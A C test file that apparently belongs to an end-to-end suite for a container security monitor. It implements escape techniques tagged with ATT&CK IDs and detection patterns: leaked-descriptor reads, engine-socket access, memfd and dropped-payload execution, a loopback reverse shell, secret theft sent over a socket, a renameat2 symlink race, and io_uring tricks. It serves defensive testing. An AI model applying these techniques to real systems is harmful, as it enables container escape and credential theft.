/* SPDX-License-Identifier: Apache-2.0 */
/* By files, programs and sockets, most of them with no call that the service does not make itself.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "tests/e2e/escapes/techniques/technique.h"

#define DROPPED "/tmp/escape-program"
#define REPORT VOLUME "/report" /* what the host's backup copies */
#define COPY VOLUME "/copy"

static int leaked_descriptor(int victim)
{
	(void)victim;
	return flag_read(openat(LEAKED_FD, "flag", O_RDONLY | O_CLOEXEC));
}

static int leaked_directory(int victim)
{
	char path[64];

	(void)victim;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", LEAKED_FD);
	return chdir(path) < 0 ? errno : flag_open("flag");
}

static int engine_socket(int victim)
{
	(void)victim;
	return FAILED(connect_unix(ENGINE_SOCKET, SOCK_STREAM));
}

bool engine_reached(struct host *h)
{
	return h->world->engine > 0;
}

/* The status of a shell's command. */
static int run_shell(const char *command)
{
	char sh[] = "/bin/sh", c[] = "-c", text[64];
	char *const argv[] = {sh, c, text, NULL}, *const envp[] = {NULL};
	int status = 0;
	pid_t pid;

	snprintf(text, sizeof(text), "%s", command);
	pid = fork();
	if (pid == 0) {
		execve(sh, argv, envp);
		_exit(errno);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return errno;
	return status_of(status);
}

static int memory_program(int victim)
{
	int fd = (int)syscall(SYS_memfd_create, "escape", 0), r;

	(void)victim;
	if (fd < 0)
		return errno;
	r = payload_write(fd);
	return r ? r : payload_run(NULL, fd);
}

static int dropped_program(int victim)
{
	int r = payload_drop(DROPPED);

	(void)victim;
	return r ? r : payload_run(DROPPED, -1);
}

/* Under a name that the service may write. */
static int dropped_in_spool(int victim)
{
	int r;

	(void)victim;
	mkdir(SPOOL "/batch", 0755);
	r = payload_drop(KNOWN);
	r = r ? r : chmod(KNOWN, 0755) < 0 ? errno : 0;
	r = r ? r : payload_run(KNOWN, -1);
	unlink(KNOWN);
	return r;
}

static int spawn_shell(int victim)
{
	(void)victim;
	return run_shell(": >" RAN);
}

static int reverse_shell(int victim)
{
	int fd = connect_loopback(PORT);

	(void)victim;
	if (fd < 0)
		return errno;
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	return run_shell("echo " FLAG);
}

bool flag_received(struct host *h)
{
	char got[sizeof(FLAG)];

	for (size_t i = 0; i < sizeof(got); i++)
		got[i] = h->world->received[i];
	return memcmp(got, FLAG, strlen(FLAG)) == 0;
}

/* Nothing but calls that the service makes: it reads another file, and connects. */
static int steal_secret(int victim)
{
	char buf[64];
	int fd = open(SECRET, O_RDONLY | O_CLOEXEC), out;
	ssize_t n;

	(void)victim;
	if (fd < 0)
		return errno;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	out = connect_loopback(PORT);
	if (n < 0 || out < 0)
		return errno;
	return FAILED(write(out, buf, (size_t)n));
}

static int connect_out(int victim)
{
	(void)victim;
	return FAILED(connect_loopback(PORT));
}

static bool was_called(struct host *h)
{
	return h->world->port > 0;
}

/* A link to the host's file in the volume, in the report's place between the look and the use of a
 * backup that the host makes. */
static int symlink_race(int victim)
{
	const struct timespec nap = {.tv_nsec = 1000000};
	int fd = open(REPORT, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), r;

	(void)victim;
	r = FAILED(fd);
	if (r == 0)
		r = FAILED(symlink(HOST_FLAG, VOLUME "/link"));
	for (int i = 0; i < 3000 && r == 0; i++) {
		r = FAILED(syscall(SYS_renameat2, AT_FDCWD, REPORT, AT_FDCWD, VOLUME "/link",
				   2 /* RENAME_EXCHANGE */));
		if (i % 3 == 0)
			clock_nanosleep(CLOCK_MONOTONIC, 0, &nap, NULL);
		if (i % 20 == 0 && flag_open(COPY) == 0)
			return 0;
	}
	return r ? r : ENOENT;
}

static int agent_start(struct host *h)
{
	h->world->agent = 1;
	return 0;
}

static bool copy_has_flag(struct host *h)
{
	(void)h;
	return host_begins(HOST_DIR COPY, FLAG);
}

/* ---- io_uring ---- */

static int ring_open_file(int victim)
{
	int r = ring_do(&(struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
					       .flags = IOSQE_ASYNC,
					       .fd = AT_FDCWD,
					       .addr = (unsigned long)SECRET});

	(void)victim;
	return r < 0 ? -r : flag_read(r);
}

static int ring_connect(int victim)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(PORT),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), r;

	(void)victim;
	if (fd < 0)
		return errno;
	r = ring_do(&(struct io_uring_sqe){.opcode = IORING_OP_CONNECT,
					   .flags = IOSQE_ASYNC,
					   .fd = fd,
					   .addr = (unsigned long)&a,
					   .off = sizeof(a)});
	return r < 0 ? -r : 0;
}

static int ring_of_its_own(int victim)
{
	(void)victim;
	if (ring_open() < 0)
		return errno;
	return ring_open_file(0);
}

const struct technique file_techniques[] = {
	{"leaked_fd", "T1611", "opens by a directory descriptor that the runtime left open",
	 .seen = "open r file .*flag", .run = leaked_descriptor},
	{"leaked_cwd", "T1611",
	 "changes to /proc/self/fd/N of that descriptor and opens from there",
	 .seen = "open r file .*flag", .run = leaked_directory},
	{"engine_socket", "T1610", "connects to the container engine's socket",
	 .seen = "connect .*engine.sock", .run = engine_socket, .probe = engine_reached},
	{"memfd_exec", "T1620", "executes a program from memory", .seen = "^memfd_create ",
	 .also = "^execveat exec .*memfd", .stopped = "^memfd_create |^execveat exec ",
	 .hook = "file_alloc_security", .run = memory_program, .probe = program_ran},
	{"dropped_program", "T1105", "writes a program and executes it",
	 .seen = "exec " DROPPED " .fresh", .stopped = DROPPED, .run = dropped_program,
	 .probe = program_ran},
	{"dropped_in_spool", "T1105", "executes a program written where the service writes files",
	 .seen = "exec " SPOOL "/batch/note .fresh", .run = dropped_in_spool, .probe = program_ran},
	{"shell", "T1059.004", "executes a shell", .seen = "exec /usr/bin/dash", .run = spawn_shell,
	 .probe = program_ran},
	{"reverse_shell", "T1059.004", "connects out and executes a shell on it",
	 .seen = "connect 127.0.0.1:4444", .also = "exec /usr/bin/dash", .run = reverse_shell,
	 .probe = flag_received},
	{"steal_secret", "T1552.001", "reads a credential and sends it out, in its own process",
	 .seen = "open r file " SECRET, .also = "connect 127.0.0.1:4444", .run = steal_secret,
	 .probe = flag_received},
	{"connect_out", "T1041", "connects to an address of its own",
	 .seen = "connect 127.0.0.1:4444", .run = connect_out, .probe = was_called},
	{"symlink_race", "T1611", "swaps a link under a backup that the host makes of a volume",
	 .seen = "symlink " VOLUME "/link", .also = "rename", .stopped = "report|symlink|rename",
	 .run = symlink_race, .prepare = agent_start, .probe = copy_has_flag},
	{"io_uring_open", "T1106", "opens a credential by the service's own io_uring",
	 .seen = "open r file " SECRET, .run = ring_open_file},
	{"io_uring_connect", "T1106", "connects out by the service's own io_uring",
	 .seen = "connect 127.0.0.1:4444", .run = ring_connect, .probe = was_called},
	{"io_uring_setup", "T1106", "makes an io_uring of its own and opens a credential by it",
	 .seen = "^io_uring_setup ", .also = "open r file " SECRET, .stopped = "^io_uring_setup ",
	 .hook = "inode_init_security_anon", .run = ring_of_its_own},
	{0},
};
